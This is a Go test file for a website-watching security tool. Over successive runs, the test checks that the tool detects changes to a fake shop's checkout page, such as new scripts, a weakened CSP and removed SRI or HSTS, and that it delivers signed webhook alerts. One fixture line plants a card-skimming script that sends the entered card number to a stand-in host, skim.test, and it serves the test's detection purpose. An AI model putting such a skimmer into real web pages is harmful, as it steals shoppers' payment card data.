package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/padlock-scan/padlock/alert"
	"github.com/padlock-scan/padlock/history"
	"github.com/padlock-scan/padlock/internal/sitetest"
	"github.com/padlock-scan/padlock/internal/sitetest/testnet"
	"github.com/padlock-scan/padlock/scan"
)

// swapSite serves one VHosts at a time; a test swaps in the next version of the site between runs.
type swapSite struct {
	mu sync.Mutex
	h  http.Handler
}

func (s *swapSite) set(h http.Handler) {
	s.mu.Lock()
	s.h = h
	s.mu.Unlock()
}

func (s *swapSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	h := s.h
	s.mu.Unlock()
	h.ServeHTTP(w, r)
}

// shopVersion describes one state of the watched shop.
type shopVersion struct {
	appJS      string // the first-party script's body
	skimmer    bool   // an inline script added to the checkout page
	payJSSRI   bool   // the provider's script has an integrity attribute
	csp        string // "" sends none
	hsts       string // "" sends none
	checkout   int    // the checkout page's status: 200, 500, or 302 to the login page
	payJSFound bool
}

var goodShop = shopVersion{appJS: "console.log('app v1')", payJSSRI: true, payJSFound: true,
	csp: "script-src 'self' https://cdn.test; object-src 'none'", hsts: "max-age=31536000; includeSubDomains", checkout: 200}

const payJS = "window.pay = function () { return 'card' }"

func (v shopVersion) hosts(cdn string) *sitetest.VHosts {
	h := sitetest.NewVHosts()
	h.Add("shop.test/", sitetest.HTML(`<!doctype html><title>Shop</title><a href="/checkout">Checkout</a>`))
	var headers []string
	if v.csp != "" {
		headers = append(headers, "Content-Security-Policy: "+v.csp)
	}
	if v.hsts != "" {
		headers = append(headers, "Strict-Transport-Security: "+v.hsts)
	}
	integrity := ""
	if v.payJSSRI {
		integrity = ` integrity="` + testnet.SRI("sha384", payJS) + `" crossorigin="anonymous"`
	}
	page := `<!doctype html><title>Checkout</title>
<script src="` + cdn + `/pay.js"` + integrity + `></script>
<script src="/app.js"></script>
<form method="post" action="/pay"><input name="cardnumber" autocomplete="cc-number"><button>Pay</button></form>
`
	if v.skimmer {
		page += `<script>document.forms[0].addEventListener('submit', () => fetch('https://skim.test/c?' + document.forms[0].cardnumber.value))</script>
`
	}
	switch v.checkout {
	case 500:
		h.Add("shop.test/checkout", sitetest.Route{Status: 500, Type: "text/html", Body: "<!doctype html><title>Error</title>oops"})
	case 302:
		h.Add("shop.test/checkout", sitetest.Route{Status: 302, Header: []string{"Location: /login"}})
	default:
		h.Add("shop.test/checkout", sitetest.HTML(page, headers...))
	}
	h.Add("shop.test/login", sitetest.HTML(`<!doctype html><title>Sign in</title><form method="post"><input name="user"><input type="password" name="pw"></form>`))
	h.Add("shop.test/app.js", sitetest.JS(v.appJS))
	if v.payJSFound {
		h.Add("cdn.test/pay.js", sitetest.JS(payJS))
	}
	return h
}

// fakeClock is the watcher's clock: sleeping moves it on at once and calls onWake.
type fakeClock struct {
	mu     sync.Mutex
	t      time.Time
	onWake func() error // an error stops the loop (the watcher's context is done)
}

func (c *fakeClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) sleep(ctx context.Context, d time.Duration) error {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
	return c.onWake()
}

// hookReceiver is a webhook endpoint on loopback: it checks each body's signature and answers
// 500 to the first fail requests.
type hookReceiver struct {
	mu     sync.Mutex
	secret string
	fail   int
	tries  int
	runs   []int64
	bad    int
}

func (h *hookReceiver) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	h.mu.Lock()
	defer h.mu.Unlock()
	h.tries++
	if !alert.Verify([]byte(h.secret), body, r.Header.Get(alert.SignatureHeader)) {
		h.bad++
		http.Error(w, "bad signature", http.StatusUnauthorized)
		return
	}
	if h.tries <= h.fail {
		http.Error(w, "down", http.StatusInternalServerError)
		return
	}
	var a alert.Alert
	if err := json.Unmarshal(body, &a); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	h.runs = append(h.runs, a.Run)
}

func changeKinds(cs []history.Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Kind)
	}
	return out
}

// The watch loop, driven by a clock that never sleeps, over a shop whose scripts and headers
// change between runs: additions, removals of controls, a payment page that fails and one that
// redirects to a login page (degraded: alerted, never the baseline), and the recovery. The
// webhook receiver checks every signature and fails the first alert's deliveries, which are
// recorded and made on the next run.
func TestWatchLoopAlertsOnChangesAndDegradedRuns(t *testing.T) {
	t.Parallel()
	site := &swapSite{}
	hosts := sitetest.StartHosts(t, site, "shop.test", "cdn.test")
	cdn := hosts.Origin("cdn.test")
	changed := goodShop
	changed.appJS, changed.skimmer, changed.csp = "console.log('app v2')", true, goodShop.csp+"; script-src 'unsafe-inline'"
	changed.csp = "script-src 'self' https://cdn.test 'unsafe-inline'; object-src 'none'"
	removed := changed
	removed.skimmer, removed.payJSSRI, removed.csp, removed.hsts = false, false, "", ""
	failing, redirecting, unreadable := removed, removed, removed
	failing.checkout, redirecting.checkout, unreadable.payJSFound = 500, 302, false
	versions := []shopVersion{goodShop, goodShop, changed, removed, failing, redirecting, unreadable, removed}
	site.set(versions[0].hosts(cdn))

	rc := &hookReceiver{secret: "s3cret", fail: 2}
	hook := httptest.NewServer(rc)
	defer hook.Close()
	var waits []time.Duration
	wh := &alert.Webhook{URL: hook.URL, Secret: "s3cret", Poster: alert.Poster{Attempts: 2, Sleep: func(_ context.Context, d time.Duration) error {
		waits = append(waits, d)
		return nil
	}}}

	store, err := history.Open(filepath.Join(t.TempDir(), "h.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	start := hosts.Origin("shop.test") + "/"
	opt := hosts.Options([]string{start})
	clock := &fakeClock{t: time.Date(2026, 12, 7, 3, 0, 0, 0, time.UTC)}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	run := 0
	clock.onWake = func() error {
		run++
		if run == len(versions) {
			cancel()
			return context.Canceled
		}
		site.set(versions[run].hosts(cdn))
		return nil
	}
	var stderr bytes.Buffer
	w := &watcher{opt: opt, site: start, configHash: "test", store: store, channels: []alert.Channel{wh},
		stdout: io.Discard, stderr: &stderr, next: func(t time.Time) time.Time { return t.Add(24 * time.Hour) },
		now: clock.now, sleep: clock.sleep, scanRun: scan.Run}
	if err := w.loop(ctx); err != nil {
		t.Fatalf("loop: %v\n%s", err, stderr.String())
	}
	runs, err := store.Runs(context.Background(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	var outcomes []string
	for i, r := range runs {
		outcomes = append(outcomes, r.Outcome)
		if want := time.Date(2026, 12, 7+i, 3, 0, 0, 0, time.UTC); !r.StartedAt.Equal(want) {
			t.Errorf("run %d started %s, want %s (the injected clock)", r.ID, r.StartedAt, want)
		}
	}
	want := []string{"ok", "ok", "changed", "changed", "degraded", "degraded", "degraded", "ok"}
	if !slices.Equal(outcomes, want) {
		t.Fatalf("outcomes %v, want %v\n%s", outcomes, want, stderr.String())
	}
	has := func(r *history.Run, kinds ...string) {
		t.Helper()
		got := changeKinds(r.Changes)
		for _, k := range kinds {
			if !slices.Contains(got, k) {
				t.Errorf("run %d: no %s among %v", r.ID, k, got)
			}
		}
	}
	has(runs[2], history.ScriptAdded, history.ScriptChanged, history.CSPWeakened)
	has(runs[3], history.ScriptRemoved, history.SRIRemoved, history.CSPRemoved, history.HeaderRemoved)
	for _, r := range runs[4:7] {
		if r.BaselineRun != runs[3].ID || len(r.Reasons) == 0 {
			t.Errorf("degraded run %d: baseline %d, reasons %q", r.ID, r.BaselineRun, r.Reasons)
		}
	}
	sitetest.Contains(t, "reasons", strings.Join(runs[4].Reasons, "\n"), "checkout failed: HTTP 500")
	sitetest.Contains(t, "reasons", strings.Join(runs[5].Reasons, "\n"), "checkout now redirects to", "/login")
	sitetest.Contains(t, "reasons", strings.Join(runs[6].Reasons, "\n"), "pay.js of payment page", "could not be read")
	if runs[7].BaselineRun != runs[3].ID || len(runs[7].Changes) != 0 {
		t.Errorf("the recovered run compares with run %d, changes %v", runs[7].BaselineRun, changeKinds(runs[7].Changes))
	}
	// Alerts: run 3's failed twice (both attempts), was recorded, and went out with run 4's.
	wantRuns := []int64{runs[2].ID, runs[3].ID, runs[4].ID, runs[5].ID, runs[6].ID}
	if !slices.Equal(rc.runs, wantRuns) || rc.bad != 0 {
		t.Errorf("webhook got the alerts of runs %v (want %v), %d bad signatures", rc.runs, wantRuns, rc.bad)
	}
	if len(waits) == 0 || waits[0] != 2*time.Second {
		t.Errorf("no backoff between tries: %v", waits)
	}
	alerts, err := store.Alerts(context.Background(), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 5 {
		t.Fatalf("%d alerts recorded, want 5", len(alerts))
	}
	for _, a := range alerts {
		for _, d := range a.Deliveries {
			if d.Status != history.Delivered {
				t.Errorf("run %d's %s delivery: %s %s", a.RunID, d.Channel, d.Status, d.LastError)
			}
		}
	}
	if d := alerts[0].Deliveries; len(d) != 2 || d[1].Channel != "webhook" || d[1].Attempts != 2 {
		t.Errorf("the first alert's deliveries: %+v", d)
	}
	sitetest.Contains(t, "stderr", stderr.String(), "padlock: alert: padlock watch", "script-added inline sha256:",
		"the webhook alert was not delivered (tried again next run)", "delivered run 3's alert to the webhook now")
	seen, err := store.Scripts(context.Background(), hosts.Origin("shop.test")+"/checkout")
	if err != nil {
		t.Fatal(err)
	}
	if len(seen) < 3 {
		t.Errorf("scripts seen on the checkout page: %+v", seen)
	}
	if testing.Verbose() {
		t.Log(stderr.String())
	}
}
